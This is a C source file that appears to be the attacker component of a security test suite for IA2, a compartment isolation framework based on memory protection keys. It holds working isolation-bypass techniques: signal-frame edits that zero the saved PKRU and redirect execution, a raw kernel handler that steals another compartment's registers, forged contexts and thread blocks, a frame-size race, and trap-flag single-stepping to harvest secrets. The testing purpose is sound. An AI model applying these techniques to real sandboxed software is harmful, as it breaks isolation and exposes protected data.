#define _GNU_SOURCE
#include <ia2.h>
#include <attack.h>
#include <cpuid.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>
#include "parts.h"
#define IA2_COMPARTMENT 2
#include <ia2_compartment_init.inc>

/* Absent from the plain program. */
extern __thread char ia2_thread_block[] __attribute__((weak));

static int handled;
static int pkru_offset;

/* With rights that are not its own? */
__attribute__((used, visibility("hidden"))) void thief_landed(void)
{
    unsigned int pkru = ia2_get_pkru();

    if (!(pkru >> 2 & 1)) {
        BOARD->landed++;
        BOARD->landed_pkru = pkru;
    }
    _exit(0);
}

/* Changes a frame so that it resumes in thief_landed with all rights. */
static void edit(ucontext_t *context, unsigned char *state)
{
    context->uc_mcontext.gregs[REG_RIP] = (long)IA2_IGNORE((void *)thief_landed);
    *(volatile unsigned int *)(state + pkru_offset) = 0;
}

/* The alternate stack is on key 0, the frames there too: each has its state marked by a magic number. */
static void edit_all(void)
{
    unsigned char *at = (unsigned char *)((ALTERNATE + 63) & ~63ul);
    unsigned char *end = (unsigned char *)(ALTERNATE + ALTERNATE_SIZE);

    for (; at + 1024 < end; at += 64) {
        /* FP_XSTATE_MAGIC1, struct _fpx_sw_bytes. */
        if (*(volatile unsigned int *)(at + 464) != 0x46505853)
            continue;
        *(volatile unsigned int *)(at + pkru_offset) = 0;
    }
    /* The registers of a frame stand in front of its state; the pointer to it says where. */
    for (at = (unsigned char *)ALTERNATE; at + sizeof(ucontext_t) < end; at += 8) {
        ucontext_t *context = (ucontext_t *)at;
        unsigned char *state = (unsigned char *)context->uc_mcontext.fpregs;
        if (state > at && state < end && *(volatile unsigned int *)(state + 464) == 0x46505853)
            edit(context, state);
    }
}

void on_signal(int signal, siginfo_t *info, void *context)
{
    ucontext_t *frame = context;

    handled++;
    if (ALTERNATE)
        edit_all();
    /* What it gets, if it is real. */
    if (frame->uc_mcontext.gregs[REG_RSP] && frame->uc_mcontext.fpregs)
        edit(frame, (unsigned char *)frame->uc_mcontext.fpregs);
    (void)signal, (void)info;
}
IA2_DEFINE_SIGACTION(on_signal, 2);

static void prepare(void)
{
    unsigned int size, offset, c, d;

    __cpuid_count(0xd, 9, size, offset, c, d);
    pkru_offset = (int)offset;
    (void)size, (void)c, (void)d;
}

void thief_install(void)
{
    struct sigaction action;

    prepare();
    memset(&action, 0, sizeof action);
    action.sa_sigaction = IA2_SIGHANDLER(on_signal);
    action.sa_flags = SA_SIGINFO | SA_ONSTACK;
    sigaction(SIGUSR1, &action, NULL);
}

int thief_handled(void) { return handled; }

/* Looks at what the kernel has left on the alternate stack. */
void thief_scan_alternate(void)
{
    unsigned long *word = (unsigned long *)ALTERNATE;

    for (; word < (unsigned long *)(ALTERNATE + ALTERNATE_SIZE); word++)
        if ((*word & 0xffff) == 0x5ec7)
            take_word(*word);
}

/* Edits frames for as long as another thread handles signals. */
void thief_hammer(void)
{
    prepare();
    while (!STOP)
        edit_all();
}

/* The kernel's own call, past the runtime: a handler that takes the registers it finds. */
struct kernel_action {
    void *handler;
    unsigned long flags;
    void *restorer;
    unsigned long mask;
};
__attribute__((naked, visibility("hidden"))) void thief_sees(void)
{
    /* r12 to r15 are the interrupted compartment's; there is no stack. */
    __asm__("movabsq $0x200000500000, %rax\n"
            "movq %r12, (%rax)\n movq %r13, 8(%rax)\n movq %r14, 16(%rax)\n movq %r15, 24(%rax)\n"
            "movq %rbx, 32(%rax)\n"
            "movl $15, %eax\n"
            "addq $8, %rsp\n"
            "syscall\n");
}
void thief_raw_handler(void)
{
    struct kernel_action action = { IA2_IGNORE((void *)thief_sees), SA_ONSTACK | 0x04000000, NULL, 0 };

    action.restorer = IA2_IGNORE((void *)thief_sees);
    if (syscall(SYS_rt_sigaction, SIGUSR2, &action, NULL, 8))
        perror("rt_sigaction");
}

/* Where the kernel would call the handler of a signal. */
static unsigned long entry_of(int signal)
{
    struct kernel_action action = { 0 };

    syscall(SYS_rt_sigaction, signal, NULL, &action, 8);
    return (unsigned long)action.handler;
}

/* Calls what the kernel calls. */
__attribute__((noinline)) static void deliver(int signal, void *info, void *context, unsigned long stack)
{
    __asm__ volatile("movq %0, %%rsp\n"
                     "jmpq *%1\n"
                     : : "r"(stack), "r"(entry_of(signal)), "D"(signal), "S"(info), "d"(context)
                     : "memory");
    __builtin_unreachable();
}

/* The victim's handler gets pointers of the attacker's choice: a context that is the target. */
void thief_deliver(unsigned long target)
{
    ucontext_t *context = (ucontext_t *)(target - offsetof(ucontext_t, uc_mcontext.gregs[REG_RIP]));

    /* On a stack of the victim, below everything. */
    if (ia2_get_pkru())
        deliver(SIGUSR2, (void *)FORGED, context, BOARD->scratch[3]);
    ((void (*)(int, siginfo_t *, void *))entry_of(SIGUSR2))(SIGUSR2, (siginfo_t *)FORGED, context);
}

static unsigned long get_fs(void)
{
    unsigned long base;

    __asm__ volatile("rdfsbase %0" : "=r"(base));
    return base;
}

/* A frame on an alternate stack that is everywhere, of code that ran on the given stack. */
static ucontext_t *forge(unsigned long stack, unsigned long state, unsigned int extended)
{
    ucontext_t *context = (ucontext_t *)(FORGED + 8);

    context->uc_stack.ss_sp = NULL;
    context->uc_stack.ss_size = ~0ul;
    context->uc_mcontext.gregs[REG_RSP] = (long)stack;
    context->uc_mcontext.fpregs = (void *)state;
    *(unsigned int *)(state + 468) = extended;
    return context;
}

/* The frame's copy goes where a fake thread block says that the victim's stack is. */
void thief_deliver_with_fake_block(unsigned long stack, unsigned long target)
{
    unsigned long fake = FORGED + FORGED_SIZE / 2, fs = get_fs(), *word;
    ucontext_t *context = forge(stack, FORGED + 1024, 1024);

    for (word = (unsigned long *)fake; word < (unsigned long *)(fake + 65536); word++)
        *word = target + 1024;
    __asm__ volatile("wrfsbase %0" : : "r"(fake + 4096 + (fs - (unsigned long)ia2_thread_block)));
    deliver(SIGUSR2, (void *)FORGED, context, FORGED + FORGED_SIZE / 4);
}

/*
 * The frame is larger when it is put back than it was when it was copied. Its size stands at its end,
 * so there is time to change it while the rest is copied.
 */
#define STATE (FORGED + 0xf000)
static volatile int growing;
static int growing_signal;
static void *grow(void *unused)
{
    while (growing) {
        *(volatile unsigned int *)(STATE + 468) = 0xf00;
        *(volatile unsigned int *)(STATE + 468) = 1024;
    }
    return unused;
}
void thief_deliver_growing(unsigned long stack, int signal)
{
    ucontext_t *context = forge(stack, STATE, 1024);
    pthread_t thread;

    growing = 1;
    growing_signal = signal;
    pthread_create(&thread, NULL, grow, NULL);
    usleep(1000);
    deliver(growing_signal, (void *)FORGED, context, FORGED + FORGED_SIZE / 4);
}

/* Called for each instruction of gates and victim, if it is so. */
static int steps;
void on_step(int signal, siginfo_t *info, void *context)
{
    ucontext_t *frame = context;
    int i;

    steps++;
    for (i = 0; i < REG_RIP; i++)
        if ((frame->uc_mcontext.gregs[i] & 0xffff) == 0x5ec7)
            take_word((unsigned long)frame->uc_mcontext.gregs[i]);
    (void)signal, (void)info;
}
IA2_DEFINE_SIGACTION(on_step, 2);

/* Calls with EFLAGS.TF set: SIGTRAP after each instruction. */
void thief_single_steps(void)
{
    struct sigaction action;

    memset(&action, 0, sizeof action);
    action.sa_sigaction = IA2_SIGHANDLER(on_step);
    action.sa_flags = SA_SIGINFO;
    sigaction(SIGTRAP, &action, NULL);
    __asm__ volatile("pushfq\n orl $0x100, (%%rsp)\n popfq" : : : "memory", "cc");
    main_work();
    main_work();
    __asm__ volatile("pushfq\n andl $~0x100, (%%rsp)\n popfq" : : : "memory", "cc");
    printf("stepped %s\n", steps > 20 ? "through" : "not");
}
